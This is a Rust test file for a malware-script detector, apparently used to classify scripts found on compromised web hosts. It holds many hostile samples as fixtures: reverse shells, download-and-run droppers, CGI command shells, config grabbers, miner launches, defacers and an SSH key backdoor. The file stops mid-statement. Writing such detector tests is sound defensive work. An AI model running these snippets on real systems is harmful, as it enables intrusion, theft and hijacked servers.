use super::*;

fn whys(text: &str) -> Vec<Why> {
    signs(text.as_bytes()).into_iter().map(|s| s.why).collect()
}

#[test]
fn back_connect_shells_in_each_language_are_found() {
    let perl = "#!/usr/bin/perl\nuse Socket;\n$h = $ARGV[0]; $p = $ARGV[1];\n\
                socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp'));\n\
                connect(S, sockaddr_in($p, inet_aton($h))) or die;\n\
                open(STDIN, \">&S\"); open(STDOUT, \">&S\"); open(STDERR, \">&S\");\nexec('/bin/sh -i');\n";
    let python = "import socket, os, pty\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n\
                  s.connect(('198.51.100.9', 4444))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\n\
                  os.dup2(s.fileno(), 2)\npty.spawn('/bin/bash')\n";
    let shell = "#!/bin/sh\nwhile true; do bash -i >& /dev/tcp/198.51.100.9/4444 0>&1; sleep 60; done\n";
    let netcat =
        "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f\n";
    // fresh111's `a.sh`: PHP's own socket handed to bash as its input and output.
    let php = "php -r '$sock=fsockopen(\"0.tcp.ap.ngrok.io\",18251);popen(\"bash <&3 >&3 2>&3\", \"r\");'\n";
    // Regression: fresh178's PANIX cleanup scripts list the lines they remove, with no host.
    let revert = "#!/bin/bash\nfor p in \"bash -i >& /dev/tcp/\" \"nohup bash -i > /dev/tcp/\"; do\n  crontab -l | grep -v \"$p\" | crontab -\ndone\n";
    assert!(!whys(revert).contains(&Why::RemoteShell), "{:?}", whys(revert));
    let by_vars = "#!/bin/bash\nbash -i >& /dev/tcp/$IP/$PORT 0>&1\n";
    assert_eq!(whys(by_vars), [Why::RemoteShell]);
    // Regression: fresh148's `u.sh` starts NPS's tunnel client with its server and key.
    let tunnel = "/dev/shm/npc -server=198.51.100.7:443 -vkey=g6jpzgziodoyzb7u -type=tcp &\n";
    for src in [perl, python, shell, netcat, php, tunnel] {
        assert_eq!(whys(src), [Why::RemoteShell], "{src}");
    }
}

#[test]
fn an_irc_bot_and_a_flooder_are_found() {
    let bot = "#!/usr/bin/perl\nuse IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => $server, PeerPort => 6667);\n\
               print $s \"NICK $nick\\r\\nUSER $nick 8 * :$nick\\r\\n\";\nprint $s \"JOIN $chan\\r\\n\";\n\
               while (<$s>) { if (/PRIVMSG $chan :!sh (.*)/) { my @o = `$1`; print $s \"PRIVMSG $chan :$_\" for @o; } }\n";
    assert!(whys(bot).contains(&Why::NetworkBot), "{:?}", whys(bot));
    // fresh111's Slowloris: requests kept open on many sockets, named for what it is.
    let slow = "#!/usr/bin/perl\n# Slowloris HTTP DoS\nuse IO::Socket::INET;\n\
                $sock = new IO::Socket::INET(PeerAddr => $host, PeerPort => 80);\n\
                while (1) { print $sock \"X-a: b\\r\\n\"; sleep 15; }\n";
    assert_eq!(whys(slow), [Why::NetworkBot]);
    // fresh111's `server`: a Telegram chat's messages polled and run by bash.
    let chat = "#!/bin/bash\nwhile true; do U=$(curl -s \"https://api.telegram.org/bot$T/getUpdates?offset=-1\")\n\
                CMD=$(echo \"$U\" | grep -oP '\"text\":\"\\K[^\"]+'); OUT=$(eval \"$CMD\" 2>&1); sleep 2; done\n";
    assert_eq!(whys(chat), [Why::NetworkBot]);
    // A deploy script reporting to a chat reads no orders: quiet.
    let report = "#!/bin/bash\nOUT=$(eval \"$BUILD\" 2>&1)\ncurl -s \"https://api.telegram.org/bot$T/sendMessage\" -d \"text=$OUT\"\n";
    assert_eq!(whys(report), []);
    let flood = "import socket, random, time\ndef udp_flood(ip, port, secs):\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
                 end = time.time() + secs\n    while time.time() < end:\n        s.sendto(random._urandom(1024), (ip, port))\n";
    assert_eq!(whys(flood), [Why::NetworkBot]);
}

#[test]
fn packed_code_run_is_found() {
    for src in [
        "#!/usr/bin/perl\neval unpack u=>q{_\"!P<FEN=\"!A;&EA9&\"0`};\n",
        "use MIME::Base64;\neval(decode_base64('cHJpbnQgImhpIjs='));\n",
        "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJzLKM3JyQcABiwCFQ==')))\n",
        "#!/bin/bash\necho 'ZWNobyBoaQo=' | base64 -d | bash\n",
        "#!/usr/bin/perl\nmy $p = ''; $p .= $_ while (<DATA>); $p = unpack('u*', $p); $p =~ tr/a-f/f-a/; eval $p;\n__DATA__\nM(&%\n",
    ] {
        assert_eq!(whys(src), [Why::EvalOfDecoded], "{src}");
    }
}

#[test]
fn a_miner_and_its_watchdog_are_found() {
    let miner = "#!/bin/sh\n./kswapd0 -o stratum+tcp://pool.example:3333 -u 4Abc --donate-level 1 >/dev/null 2>&1 &\n";
    assert_eq!(whys(miner), [Why::StartsProgram]);
    let watchdog =
        "#!/bin/bash\n(crontab -l 2>/dev/null; echo \"* * * * * cd $PWD && ./mining >/dev/null 2>&1\") | crontab -\n";
    assert_eq!(whys(watchdog), [Why::StartsProgram]);
    let from_a_file = "#!/bin/sh\ndir=$(pwd)\necho \"* * * * * $dir/keepalive >/dev/null 2>&1\" > jobs\ncrontab jobs\n";
    assert_eq!(whys(from_a_file), [Why::StartsProgram]);
}

#[test]
fn downloads_started_from_hidden_places_are_found() {
    let piped = "#!/bin/sh\nwget -q -O- http://198.51.100.7/i.sh | sh\n";
    assert_eq!(whys(piped), [Why::DownloadsProgram]);
    let hidden = "#!/bin/sh\ncd /dev/shm; curl -s https://files.example/b -o .b; chmod +x .b; /dev/shm/.b &\n";
    assert_eq!(whys(hidden), [Why::DownloadsProgram]);
    // fresh73's miner installer: the addresses given as arguments, the archive unpacked in a
    // hidden folder named like X11's sockets, its installer piped to a shell.
    let unpacked = "#!/bin/bash\ncd /tmp; rm -rf .ssh .X13-unix; mkdir .X13-unix; cd .X13-unix\n\
                    curl -O -f $1 || wget -q --no-check-certificate $1\ntar xvf dota.tar.gz\ncd .rsync\n\
                    cat /tmp/.X13-unix/.rsync/initall | bash\n";
    assert_eq!(whys(unpacked), [Why::DownloadsProgram]);
    // fresh78's watchdog: Global Socket's installer fetched again whenever its process is gone.
    let watchdog = "#!/bin/bash\ndl=\"curl -fsSL http://nossl.segfault.net/deploy-all.sh -o deploy-all.sh\"\n\
                    while true; do if ! pgrep gs-dbus >/dev/null; then $dl; bash deploy-all.sh; fi; sleep 60; done\n";
    assert_eq!(whys(watchdog), [Why::DownloadsProgram]);
    // A build script running its own installer from a temporary folder that is not hidden,
    // and one that downloads nothing.
    assert_eq!(whys(&unpacked.replace("/tmp/.X13-unix/", "/tmp/build/")), []);
    assert_eq!(whys(&unpacked.replace("curl -O -f $1 || wget -q --no-check-certificate $1\n", "")), []);
}

#[test]
fn cgi_shells_and_config_grabbers_are_found() {
    let perl = "#!/usr/bin/perl\nuse CGI qw(param);\nprint \"Content-type: text/html\\n\\n\";\nmy $c = param('cmd');\nprint `$c 2>&1`;\n";
    assert_eq!(whys(perl), [Why::ShellFromInput]);
    let python = "#!/usr/bin/env python\nimport cgi, os\nform = cgi.FieldStorage()\ncmd = form.getvalue('command')\n\
                  print('Content-Type: text/plain\\n')\nprint(os.popen(cmd).read())\n";
    assert_eq!(whys(python), [Why::ShellFromInput]);
    let grabber = "#!/usr/bin/perl\nopen(P, '/etc/passwd'); while (<P>) { my ($u) = split /:/;\n\
                   symlink(\"/home/$u/public_html/wp-config.php\", \"$u-wp.txt\");\n\
                   symlink(\"/home/$u/public_html/configuration.php\", \"$u-joomla.txt\"); }\n";
    assert_eq!(whys(grabber), [Why::ReadsOtherSites]);
    let walker = "#!/usr/bin/perl\nsub grab { my ($u) = @_;\n\
                  symlink('/home/'.$u.'/public_html/wp-config.php', \"$u-wp.txt\");\n\
                  symlink('/home/'.$u.'/public_html/includes/configure.php', \"$u-shop.txt\");\n\
                  symlink('/home/'.$u.'/public_html/config.inc.php', \"$u-members.txt\"); }\n";
    assert_eq!(whys(walker), [Why::ReadsOtherSites]);
    // Regression: fresh106's `conf.sh` prints each account's settings into a file of its own.
    let cat = "#!/bin/bash\nfor user in $(awk -F: '{print $1}' /etc/passwd); do\n\
               config_path_wp=\"/home/$user/public_html/wp-config.php\"\n\
               if [ -r \"$config_path_wp\" ]; then cat \"$config_path_wp\" >> \"$output_file_wp\"; fi\ndone\n";
    assert_eq!(whys(cat), [Why::ReadsOtherSites]);
    // Regression: fresh170's Perl symlinker links what its form names.
    let form =
        "#!/usr/bin/perl\n&ReadParse;\nprint \"Content-type: text/html\\n\\n\";\nsymlink($FORM{vic},$FORM{fl});\n";
    assert_eq!(whys(form), [Why::ReadsOtherSites]);
    // Regression: fresh170's `d4swconfig.sh` copies each account's settings out.
    let copy = "#!/bin/bash\nawk -F':' '{ print $1 }' /etc/passwd > passwd.txt\nfor i in `cat passwd.txt`\ndo\n\
                cp /home/$i/public_html/wp-config.php $pwd/d4sw-config/$i.txt\ndone\n";
    assert_eq!(whys(copy), [Why::ReadsOtherSites]);
    // A backup script of one's own site's settings reads no one else's.
    let own = "#!/bin/bash\ncat \"$HOME/public_html/wp-config.php\" >> \"$backup\"\n";
    assert!(whys(own).is_empty());
    let own_copy = "#!/bin/bash\ncp /home/$USER/public_html/wp-config.php ~/backup/\n";
    assert!(whys(own_copy).is_empty(), "{:?}", whys(own_copy));
}

#[test]
fn a_re_infector_writing_php_with_a_decoded_payload_is_found() {
    let py = "import base64, os\npayload = base64.b64decode(KEPT).decode()\nfor f in targets:\n    code = open(f).read()\n\
              if payload not in code:\n        with open(f, 'w') as out:\n            out.write(code + '?><?php ' + payload)\n";
    assert_eq!(whys(py), [Why::InjectsHiddenCode]);
    // A generator writing a PHP configuration, nothing decoded: quiet.
    let generator = "with open('config.php', 'w') as f:\n    f.write('<?php\\n$db = ' + repr(name) + ';\\n')\n";
    assert_eq!(whys(generator), []);
}

#[test]
fn a_lockdown_a_script_writes_into_every_folder_is_found() {
    let writer = "#!/bin/bash\ncontent() {\ncat <<EOL\n<Files *.ph*>\n    Deny from all\n</Files>\n\
                  <FilesMatch \"^(index.html|wolv2.php)$\">\n    Allow from all\n</FilesMatch>\nEOL\n}\n\
                  find \"$1\" -type d -exec bash -c 'content > \"$0/.htaccess\"' {} \\;\n";
    assert_eq!(whys(writer), [Why::PhpLockdown]);
    // Regression (review): the here-document's word after a blank, quoted, or escaped.
    for spelled in ["cat << EOL", "cat << 'EOL'", "cat <<\\EOL"] {
        let other = writer.replace("cat <<EOL", spelled);
        assert_eq!(whys(&other), [Why::PhpLockdown], "{other}");
    }
    // A deployment writing an upload folder's hardening: PHP refused, nothing let through.
    let hardening = "#!/bin/sh\nprintf '<Files *.ph*>\\n  Deny from all\\n</Files>\\n' > uploads/.htaccess\n";
    assert_eq!(whys(hardening), []);
    // Regression (review): two files written apart, the upload folder's refusal and the
    // dashboard's exception, are not one lockdown.
    let apart = "#!/bin/bash\ncat > wp-content/uploads/.htaccess <<EOF\n<Files *.php>\ndeny from all\n</Files>\nEOF\n\
                 cat > wp-admin/.htaccess <<'EOF'\nAuthType Basic\n<Files admin-ajax.php>\nAllow from all\nSatisfy any\n</Files>\nEOF\n";
    assert_eq!(whys(apart), []);
}

#[test]
fn ordinary_scripts_are_quiet() {
    let deploy = "#!/bin/bash\nset -e\ncurl -fsSL https://releases.example/tool.tar.gz -o tool.tar.gz\ntar xzf tool.tar.gz\n\
                  chmod +x tool/bin/run\n./tool/bin/run --migrate\n(crontab -l; echo '0 3 * * * /home/demo/bin/backup.sh') | crontab -\n";
    assert_eq!(whys(deploy), []);
    let formmail = "#!/usr/bin/perl\nuse CGI qw(param);\nmy $to = 'info@demo.example';\nmy $msg = param('message');\n\
                    open(MAIL, \"|$mailprog -t\") or die;\nprint MAIL \"To: $to\\n\\n$msg\\n\";\nclose MAIL;\n";
    assert_eq!(whys(formmail), []);
    let client =
        "import socket\ns = socket.create_connection(('api.example', 443))\ns.sendall(b'PING')\nprint(s.recv(10))\n";
    assert_eq!(whys(client), []);
    let build = "#!/bin/sh\n./configure --prefix=$HOME/.local && make && make install\nrm -rf /tmp/build-$$\n";
    assert_eq!(whys(build), []);
}

#[test]
fn what_the_held_out_scripts_taught_is_found() {
    // A CGI shell opening a pipe from the command it was sent.
    let cgi = "#!/usr/bin/perl\n%F = parse($ENV{'QUERY_STRING'});\n$cmd = $F{'cmd'};\n\
               open(CMD, \"($cmd) 2>&1 |\") || print 'failed';\nprint while (<CMD>);\n";
    assert_eq!(whys(cgi), [Why::ShellFromInput]);
    // The command sent in base64 and decoded as it is run (fresh45's ALFA `perl.alfa`).
    let decoded = "#!/usr/bin/perl\nuse MIME::Base64;\nread(STDIN, $in, $ENV{'CONTENT_LENGTH'});\n%in = parse($in);\n\
                   if ($in{\"cmd\"}) { system(decode_base64($in{\"cmd\"})); }\n";
    assert_eq!(whys(decoded), [Why::ShellFromInput]);
    // The whole query string run as the command (fresh59's `perlcmd.cgi` and `cmd.cgi`), also
    // through Perl's `$_`.
    let query =
        "#!/usr/bin/perl -w\nmy $req = $ENV{QUERY_STRING};\n$req =~ s/%20/ /g;\nmy @out = `$req`;\nprint @out;\n";
    assert_eq!(whys(query), [Why::ShellFromInput]);
    let topic = "#!/usr/bin/perl\n$_ = $ENV{QUERY_STRING};\ns/%20/ /ig;\n$execthis = $_;\nsystem($execthis);\n";
    assert_eq!(whys(topic), [Why::ShellFromInput]);
    // Regression (review): the same shell written other ways.
    let forms = [
        "my @l = `$ENV{QUERY_STRING} 2>&1`;",
        "my $q = \"$ENV{QUERY_STRING}\"; print `$q`;",
        "my ($q) = $ENV{QUERY_STRING}; print `$q`;",
        "my $q = $ENV{QUERY_STRING}; my $c = $q; print `$c`;",
        "my $q = $ENV{QUERY_STRING}; open(P, \"$q 2>&1 |\"); print <P>;",
        "my $q = $ENV{QUERY_STRING}; print `cd /tmp; PATH=/usr/local/bin:/usr/bin:/bin; export PATH; $q 2>&1`;",
        "my $q = $ENV{QUERY_STRING}; system(\"/bin/sh\", \"-c\", $q);",
        "use URI::Escape; my $q = uri_unescape($ENV{QUERY_STRING}); print `$q`;",
    ];
    for form in forms {
        assert_eq!(
            whys(&format!("#!/usr/bin/perl\nprint \"Content-type: text/plain\\n\\n\";\n{form}\n")),
            [Why::ShellFromInput],
            "{form}"
        );
    }
    // A shell CGI splitting the query string and running its `cmd` field as a line (fresh62's
    // `cgi_shell.sh`); a shell CGI printing the query string runs nothing.
    let sh = "#!/bin/sh\necho 'Content-type: text/html'\necho\nset $QUERY_STRING\nfor i in $*; do\n  case $1 in\n\
              cmd) CMD=\"`echo $2 | sed 's|%20| |g'`\"\n    ;;\n  esac\ndone\n$CMD\n";
    assert_eq!(whys(sh), [Why::ShellFromInput]);
    let echo = "#!/bin/sh\necho 'Content-type: text/plain'\necho\necho \"You asked: $QUERY_STRING\"\n";
    assert_eq!(whys(echo), []);
    // A command line tool reading its options with a `param(` of its own and running a
    // command it builds (MariaDB's `mariadb-access`): not the CGI module's.
    let tool = "#!/usr/bin/perl\nsub param { my ($k) = @_; return $opts{$k}; }\nif (param('help')) { usage(); }\n\
                my $c = param('cmd') || 'mysql'; system($c);\n";
    assert_eq!(whys(tool), []);
    // The query string parsed, and a fixed command run with a variable of another name: quiet.
    let counter = "#!/usr/bin/perl\nmy $q = $ENV{QUERY_STRING};\nmy $file = '/home/demo/count.txt';\n\
                   system($convert, $file);\nprint \"Content-type: text/plain\\n\\n$q\";\n";
    assert_eq!(whys(counter), []);
    // A shell put onto a socket's descriptor by the shell's own redirections.
    let py = "import socket, os\ns = socket.socket()\ns.connect((h, p))\nf = s.fileno()\n\
              os.system('/bin/sh -i <&' + str(f) + ' >&' + str(f) + ' 2>&' + str(f))\n";
    assert_eq!(whys(py), [Why::RemoteShell]);
    // A command read from a connection and run, without a terminal.
    let bind = "import socket, os\ns = socket.socket()\ns.bind(('', 4000))\ns.listen(1)\nc, a = s.accept()\n\
                while True:\n    cmd = c.recv(1024).decode()\n    c.send(os.popen(cmd).read().encode())\n";
    assert_eq!(whys(bind), [Why::RemoteShell]);
    // Regression: fresh127's `shell.py` hands what it receives to a function of its own that
    // runs it; a client that hands it to a logger runs nothing.
    let through = "import socket, os\ndef ExecuteCommand(command):\n        output = os.popen(command).read()\n        return output\n\
                   s = socket.socket()\ns.connect((host, port))\nwhile True:\n    data = s.recv(1024).decode()\n\
                       output = ExecuteCommand(str(data))\n    s.send(output.encode())\n";
    assert_eq!(whys(through), [Why::RemoteShell]);
    let logged = through.replace("output = ExecuteCommand(str(data))", "output = log_line(str(data))");
    assert_eq!(whys(&logged), []);
    // A renamed miner given a pool and a Monero wallet.
    let wallet = format!("#!/bin/sh\n./job -o pool.example:443 -u 4{} -p x -k &\n", "A".repeat(94));
    assert_eq!(whys(&wallet), [Why::StartsProgram]);
    // A dropper unlocking the cron files before it downloads, and one keeping its downloader in
    // a variable.
    let unlock = "#!/bin/sh\nchattr -i /etc/crontab\nufw disable\ncurl -fsSL http://files.example/x -o /tmp/x\n";
    assert_eq!(whys(unlock), [Why::DownloadsProgram]);
    let ldr =
        "#!/bin/sh\nLDR=\"wget -q -O -\"\nif [ -x /usr/bin/curl ]; then LDR=\"curl -s\"; fi\n$LDR $HOST/s.sh | bash\n";
    assert_eq!(whys(ldr), [Why::DownloadsProgram]);
}

#[test]
fn servers_and_debuggers_reading_connections_are_quiet() {
    // A server reads requests and runs a fixed program, not what it read.
    let server = "import socket, subprocess\ns = socket.socket()\ns.bind(('', 8080))\ns.listen(5)\n\
                  c, a = s.accept()\nreq = c.recv(4096)\nlog(req)\n"
        .to_owned()
        + &"# handling\n".repeat(80)
        + "subprocess.call(backup_cmd)\n";
    assert_eq!(whys(&server), []);
}

#[test]
fn mass_defacers_in_perl_and_the_shell_are_found() {
    let perl = "#!/usr/bin/perl\n# usage: ka0s_over.pl -d /www -f index. -n /tmp/index.html\n\
                sub walk { opendir(DIR, $dir) || return(); my @e = readdir(DIR); }\n\
                open(NEW, \"< $newfile\");\nforeach $f (@found) { open(FILE, \"> $f\"); print FILE <NEW>; close(FILE); }\n";
    let copier = "#!/usr/bin/perl\nuse File::Copy;\n@indexz = ('index.html', 'index.php', 'default.htm');\n\
                  opendir(D, $root) || die;\nforeach $u (readdir(D)) { foreach $i (@indexz) { cp($n, \"$root/$u/public_html/$i\"); } }\n";
    let shell = "#!/bin/bash\necho '[+] your index'\nread index\necho '[+] path to deface'\nread path\n\
                 find $path -name \"index.*\" -exec cp $index {} \\;\n";
    // fresh111's IndoXploit `mass.sh`: every account of `/etc/passwd`, the file copied into
    // each web folder.
    let accounts = "#!/bin/bash\necho ' ~~ Mass Deface (root) ~~ '\n\
                    for u in $(awk -F: '$3 >= 500 {print $1}' /etc/passwd); do\n\
                    d=\"/home/$u/public_html\"; [ -d \"$d\" ] && /bin/cp \"$FILE\" \"$d\"; done\n";
    for src in [perl, copier, shell, accounts] {
        assert_eq!(whys(src), [Why::MassDefacer], "{src}");
    }
    // An administrator's script backing every account's web folder up says nothing of
    // defacing.
    let backups = accounts
        .replace("Mass Deface (root)", "Nightly backups")
        .replace("/bin/cp \"$FILE\" \"$d\"", "tar czf \"/backup/$u.tgz\" \"$d\"");
    assert!(whys(&backups).is_empty(), "{:?}", whys(&backups));
    // A backup script copying a site's folder, and a walk that only lists its pages.
    let backup = "#!/bin/sh\nfind /home/me/site -name '*.php' -mtime -1 -exec cp {} /home/me/backup/ \\;\n";
    let lister = "#!/usr/bin/perl\nopendir(D, '.') or die; print grep { /^index\\./ } readdir(D);\n";
    assert!(whys(backup).is_empty() && whys(lister).is_empty());
    // The review's index builder: a site's own folder listing written into each folder.
    let builder = "import os\nfor root, dirs, files in os.walk('public'):\n    path = os.path.join(root, 'index.html')\n\
                   with open(path, 'w') as f:\n        f.write('<ul>' + ''.join(files) + '</ul>')\n";
    assert!(whys(builder).is_empty());
}

#[test]
fn a_program_holding_a_defacement_page_claims_the_break_in() {
    let perl = "#!/usr/bin/perl\nmy $page = \"<html><title>Hacked By Team</title><body>owned</body></html>\";\n\
                open(my $fh, '>', $ARGV[0]); print $fh $page;\n";
    assert!(crate::detect::judge("x.pl", "x.pl", perl.as_bytes(), &[]).iter().any(|h| h.why == Why::Defacement));
}

#[test]
fn a_dropper_deleting_what_it_ran_and_a_remote_access_tool_are_found() {
    // fresh68's `cron.sh`.
    let dropper = "#!/bin/bash\nwget http://payload.example/doc2\ncurl -O http://payload.example/doc2\n\
                   chmod +x doc2\nperl doc2\nrm -rf doc2 doc2*\n";
    assert_eq!(whys(dropper), [Why::DownloadsProgram]);
    let gsocket = "#!/bin/bash\nURL=\"https://gsocket.io/bin/gs-netcat_mini-linux-x86_64\"\ncurl -SsfL \"https://gsocket.io/bin/gs-netcat_mini-linux-x86_64\" -o .php-bin\n";
    assert_eq!(whys(gsocket), [Why::DownloadsProgram]);
    // The review's one-line dropper, and one removing with a plain `rm`.
    let one_line = "cd /var/www; wget http://192.0.2.4/doc2; chmod +x doc2; perl doc2; rm -rf doc2\n";
    assert_eq!(whys(one_line), [Why::DownloadsProgram]);
    let plain_rm = "#!/bin/sh\ncurl -o upd http://payload.example/u\nchmod 755 upd\n./upd\nrm upd\n";
    assert_eq!(whys(plain_rm), [Why::DownloadsProgram]);
    // A build that downloads, configures and cleans up its own source folder.
    let make = "#!/bin/sh\nwget https://ftp.gnu.org/gnu/hello/hello-2.12.tar.gz\ntar xzf hello-2.12.tar.gz\ncd hello-2.12\n\
                ./configure\nmake\nchmod +x src/hello\ncd ..\nrm -rf hello-2.12\n";
    assert!(whys(make).is_empty());
    // A build script downloading a tool it keeps.
    let build = "#!/bin/sh\nwget https://getcomposer.org/download/latest-stable/composer.phar\nchmod +x composer.phar\n./composer.phar install\n";
    assert!(whys(build).is_empty());
}

#[test]
fn a_watchdog_program_that_puts_a_site_file_back_read_only_is_found() {
    // Regression: fresh86's bash and Python watchdogs put `js-footer.php` and `mains.php` back
    // and make them (or their folder) read-only, every few seconds.
    let bash = "#!/bin/bash\ndir=\"/home/u/public_html/wp-includes/js\"\nwhile true\ndo\n  if [ ! -f \"$dir/A/js-footer.php\" ]; then\n    \
                chmod 777 \"$dir/A\"\n    cp js-footer.php \"$dir/A\"\n    chmod 555 \"$dir/A\"\n  fi\n  sleep 10\ndone\n";
    let python = "import os, stat, time\npath = '/home/u/public_html/mains.php'\nkept = open(path).read()\n\
                  os.chmod(path, stat.S_IRUSR)\nwhile True:\n    time.sleep(1)\n    if not os.path.exists(path):\n        \
                  with open(path, 'w') as f:\n            f.write(kept)\n        os.chmod(path, stat.S_IRUSR)\n";
    for src in [bash, python] {
        assert_eq!(whys(src), [Why::RewritesFilesForever], "{src}");
    }
    // A deploy loop that copies the site and leaves it writable, and a worker that keeps a log.
    let deploy = "#!/bin/bash\nwhile true; do\n  cp -r build/* /var/www/html/\n  chmod 644 /var/www/html/index.php\n  sleep 60\ndone\n";
    let worker = "import time\nwhile True:\n    with open('/var/log/worker.log', 'w') as f:\n        f.write('ok')\n    time.sleep(5)\n";
    for src in [deploy, worker] {
        assert!(whys(src).is_empty(), "{src}: {:?}", whys(src));
    }
}

#[test]
fn a_ruby_shell_and_a_bash_shell_on_a_handle_of_its_own_are_found() {
    // fresh95's Ruby one-liner and RealzCode's `bc.sh`: the connection opened on bash's
    // handle 3, each line read from it given to `eval`.
    let ruby = "f=TCPSocket.open(\"198.51.100.9\",1234).to_i;\nexec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)\n";
    assert_eq!(whys(ruby), [Why::RemoteShell]);
    let bash = "#!/bin/bash\nexec 3<> /dev/tcp/\"$ip\"/\"$po\"\nwhile IFS= read -r -u 3 -p \"$ \"; do\n  out=$(eval \"$REPLY\")\n  echo \"$out\" >&3\ndone\n";
    assert_eq!(whys(bash), [Why::RemoteShell]);
    // A port check opens one and reads the answer, and runs nothing it reads (regression
    // (review): not even beside an `eval` of its own further on).
    let check_far = "#!/bin/bash\nexec 3<> /dev/tcp/example.org/80\nread -r -u 3 status\necho \"$status\"\n# the backup\n# is made next\n# over ssh, with the agent the eval below starts,\n# after the port was seen open, once a day, from the crontab of the account's owner.\n\n\neval \"$(ssh-agent -s)\"\n";
    assert!(whys(check_far).is_empty(), "{:?}", whys(check_far));
    // A port check opens one and reads the answer, and runs nothing it reads.
    let check = "#!/bin/bash\nexec 3<> /dev/tcp/example.org/80\necho -e \"HEAD / HTTP/1.0\\r\\n\" >&3\nread -r -u 3 status\necho \"$status\"\n";
    assert!(whys(check).is_empty(), "{:?}", whys(check));
}

#[test]
fn a_web_shell_fetched_from_a_paste_site_is_found() {
    let gecko = "#!/bin/bash\nURL=\"https://raw.githubusercontent.com/someone/kit/refs/heads/main/gecko-new.php\"\n\
                 curl -s -L -k -o \"tok.php\" \"$URL\"\n";
    assert_eq!(whys(gecko), [Why::DownloadsProgram]);
    // Composer's installer from its own site.
    let composer =
        "#!/bin/sh\ncurl -sS https://getcomposer.org/installer -o composer-setup.php\nphp composer-setup.php\n";
    assert!(whys(composer).is_empty(), "{:?}", whys(composer));
}

#[test]
fn a_cgi_shell_running_a_field_of_any_name_is_found() {
    // fresh87's Python CGI shell: the command is field "0".
    let python = "#!/usr/bin/python\nimport os, cgi\nparam=cgi.FieldStorage()\ncmd=param.getvalue(\"0\")\n\
                  if cmd :\n    print(os.popen(cmd).read())\n";
    let perl = "#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nmy $run = $q->param('z');\nprint `$run`;\n";
    for src in [python, perl] {
        assert_eq!(whys(src), [Why::ShellFromInput], "{src}");
    }
    // A field shown, and a fixed command run.
    let echo =
        "import os, cgi\nform = cgi.FieldStorage()\nname = form.getvalue('name')\nprint(name)\nos.system(backup)\n";
    assert!(whys(echo).is_empty(), "{:?}", whys(echo));
}

#[test]
fn a_bot_renamed_after_the_web_server_is_found() {
    // fresh95's Stealth ShellBot, cut before its IRC loop: the disguise alone.
    let bot = "#!/usr/bin/perl\nmy $processo = '/usr/local/apache/bin/httpd -DSSL';\nuse IO::Socket;\n\
               $0=\"$processo\".\"\\0\";\nmy $pid=fork;\nexit if $pid;\n";
    assert_eq!(whys(bot), [Why::HidesAsSystemProcess]);
    let python = "import socket, os, setproctitle\nsetproctitle.setproctitle('[kworker/0:1]')\n\
                  if os.fork(): exit()\ns = socket.socket()\n";
    assert_eq!(whys(python), [Why::HidesAsSystemProcess]);
    // fresh67's and fresh76's: names picked from a list, and the internet daemon's.
    let listed = "#!/usr/bin/perl\nuse IO::Socket::INET;\nmy @fps = (\"exim\", \"bash\", \"proc\");\n\
                  my $nps = $fps[rand @fps];\n$0 = $nps;\nexit if fork;\n";
    let xinetd = "use IO::Socket;\n$0 = \"xinetd\"; $| = 1;\nexit 0 unless defined (my $pid = fork);\n";
    assert_eq!(whys(listed), [Why::HidesAsSystemProcess]);
    assert_eq!(whys(xinetd), [Why::HidesAsSystemProcess]);
    // A server naming its own workers, and a script naming itself without a connection.
    let server = "#!/usr/bin/perl\nuse IO::Socket;\nmy $pid = fork;\n$0 = 'myapp: worker';\n";
    let named = "#!/usr/bin/perl\n$0 = 'httpd-log-rotate';\nmy $pid = fork;\n";
    assert!(whys(server).is_empty() && whys(named).is_empty(), "{:?} {:?}", whys(server), whys(named));
}

#[test]
fn a_miners_installer_killing_its_rivals_and_adding_a_key_is_found() {
    let killer = "#!/bin/sh\nchattr -i /tmp/sysguard\n\
                  netstat -anp | grep :3333 | awk '{print $7}' | awk -F '[/]' '{print $1}' | xargs kill -9\n\
                  netstat -anp | grep :5555 | awk '{print $7}' | awk -F '[/]' '{print $1}' | xargs kill -9\n\
                  pkill -9 -f sysguard\npkill -9 -f networkservice\n";
    assert_eq!(whys(killer), [Why::KillsRivals]);
    let busy = "#!/bin/bash\nps axf -o \"pid %cpu\" | awk '{if($2>=50.0) print $1}' | while read pid; do\n\
                cat /proc/$pid/cmdline | grep -a -E \"$sys|$xmr\" || kill -9 $pid\ndone\ncd /tmp\n";
    assert_eq!(whys(busy), [Why::KillsRivals]);
    let key = format!(
        "#!/bin/sh\nmkdir -p ~/.ssh\necho \"ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ{} root@ubuntu\" >> ~/.ssh/authorized_keys\n",
        "x".repeat(80)
    );
    assert_eq!(whys(&key), [Why::AddsSshKey]);
    // A restart script stopping the site's own workers; a key listed, not written.
    let restart =
        "#!/bin/sh\npkill -f queue:work\npkill -f horizon\npkill -f node\npkill -f 'php artisan'\nphp artisan up\n";
    let listed = format!("#!/bin/sh\n# Add this to authorized_keys:\n# ssh-ed25519 AAAAC3Nz{}\n", "y".repeat(70));
    assert!(whys(restart).is_empty() && whys(&listed).is_empty(), "{:?} {:?}", whys(restart), whys(&listed));
}

#[test]
fn a_miners_wallet_hidden_addresses_and_a_tor_loader_are_found() {
    let wallet = "49dnvYkWkZNPrDj3KF8fR1BHLBfiVArU6Hu61N9gtrZWgbRptntwht5JUrXX1ZeofwPwC6fXNxPZfGjNEChXttwWE3WGURa";
    let config = format!(
        "#!/bin/bash\necho '{{\"pools\": [{{\"url\": \"pool.minexmr.com:5555\", \"user\": \"{wallet}.linux\"}}]}}' > config.json\n"
    );
    assert_eq!(whys(&config), [Why::StartsProgram]);
    // `https://pastebin.com/raw/Qezd3gBv`, hidden, then fetched.
    let hidden = "#!/bin/bash\nhouse=$(echo aHR0cHM6Ly9wYXN0ZWJpbi5jb20vcmF3L1FlemQzZ0J2|base64 -d)\n\
                  curl -fsSL $house | sh\n";
    assert_eq!(whys(hidden), [Why::DownloadsProgram]);
    let tor =
